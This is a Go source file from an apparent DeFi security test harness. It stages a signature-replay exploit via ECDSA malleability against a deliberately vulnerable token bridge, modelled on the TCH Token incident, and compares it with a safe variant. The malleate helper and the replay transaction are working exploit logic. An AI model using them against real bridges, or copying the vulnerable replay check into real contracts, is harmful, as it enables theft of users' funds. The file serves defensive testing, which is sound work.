package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/aegis-defi/aegis/internal/chain"
)

// SignatureReplay re-creates signature replay through ECDSA malleability
// against a registry of used signatures (TCH Token, May 2024; SWC-117 and
// SWC-121).
//
// Setup deploys USDx and SigReplayBridge (the release side of a lock-and-
// release bridge) holding 1,000,000 USDx of honest users' bridged funds; a
// validator (Users[2]) signs the release of the attacker's own, genuine
// 100,000 USDx deposit and the attacker claims it (mined in Setup: the
// signature is now public). The exploit is one transaction from the
// attacker's EOA: the same release with the signature's twin (r, n - s,
// other v), which recovers to the validator too and is not in the registry of
// used signatures. No attacker contract is involved.
//
// Vulnerable: the replay key is keccak(r, s, v) and high-s is accepted.
// Safe: the key is the message digest (and high-s is rejected); the replay
// reverts.
//
// Units: USDx. ProtocolLoss is the bridge's USDx decrease after the honest
// release.
type SignatureReplay struct{}

// Info implements Scenario.
func (SignatureReplay) Info() Info {
	return Info{
		Name:     "signature-replay",
		Class:    "signature replay (malleable signature, no message nonce)",
		Incident: "TCH Token May 2024 (SWC-117/SWC-121)",
		Summary: "The attacker resubmits its own, already used bridge-release signature in its malleable twin form " +
			"(r, n-s, flipped v); the bridge keys replays by signature bytes and pays the deposit again.",
	}
}

// sigReplayDeposit is the attacker's genuine bridged deposit.
func sigReplayDeposit() *big.Int { return tokens(100_000) }

// Setup implements Scenario.
func (SignatureReplay) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	const name = "signature-replay"
	if err := prepare(name, env, v, 3); err != nil {
		return nil, err
	}
	c, d := env.Client, env.Deployer
	validator := env.Users[2]
	usd, err := deployUSDx(ctx, c, d)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	bridge, err := deployNamed(ctx, c, d, "SigReplayBridge", usd.Address, validator.Address, env.Guardian.Address, v == Safe)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := giveTokens(ctx, usd, d, tokens(1_000_000), bridge.Address); err != nil {
		return nil, fmt.Errorf("%s: bridged funds: %w", name, err)
	}
	amount, depositID := sigReplayDeposit(), big.NewInt(7)
	vv, r, s, err := signRelease(ctx, bridge, validator, env.Attacker.Address, amount, depositID)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := transact(ctx, bridge, env.Attacker, nil, "genuine release", "release", env.Attacker.Address, amount, depositID, vv, r, s); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	st := &incidentStaged{
		client:      c,
		targets:     []Target{{Name: "SigReplayBridge", Address: bridge.Address, Pausable: true}},
		book:        &ledger{client: c, unit: "USDx", assets: []pricedAsset{{symbol: "USDx", token: usd, price: unitOne()}}},
		attackerEOA: env.Attacker.Address,
		attackers:   []common.Address{env.Attacker.Address},
		victims:     []common.Address{bridge.Address},
	}
	st.build = func(ctx context.Context) ([]*types.Transaction, error) {
		mv, ms := malleate(vv, s)
		tx, err := buildCall(ctx, c, env.Attacker, bridge, nil, "release", env.Attacker.Address, amount, depositID, mv, r, ms)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		return []*types.Transaction{tx}, nil
	}
	if err := st.baseline(ctx); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	return st, nil
}

// signRelease has the validator sign the bridge's release digest and
// returns (v, r, s) with v in {27, 28}.
func signRelease(ctx context.Context, bridge *chain.Contract, validator chain.Account, to common.Address, amount, id *big.Int) (uint8, [32]byte, [32]byte, error) {
	var r, s [32]byte
	out, err := bridge.Call(ctx, "releaseDigest", to, amount, id)
	if err != nil {
		return 0, r, s, fmt.Errorf("releaseDigest: %w", err)
	}
	digest, ok := out[0].([32]byte)
	if !ok || len(out) != 1 {
		return 0, r, s, fmt.Errorf("releaseDigest returned %T, want bytes32", out[0])
	}
	sig, err := crypto.Sign(digest[:], validator.Key)
	if err != nil {
		return 0, r, s, fmt.Errorf("validator signs release: %w", err)
	}
	copy(r[:], sig[:32])
	copy(s[:], sig[32:64])
	return sig[64] + 27, r, s, nil
}

// malleate returns the twin of an ECDSA signature (v in {27, 28}): the same
// r with n - s and the other recovery id recovers to the same signer.
func malleate(v uint8, s [32]byte) (uint8, [32]byte) {
	n := crypto.S256().Params().N
	twin := new(big.Int).Sub(n, new(big.Int).SetBytes(s[:]))
	var out [32]byte
	twin.FillBytes(out[:])
	return 55 - v, out // 27 <-> 28
}
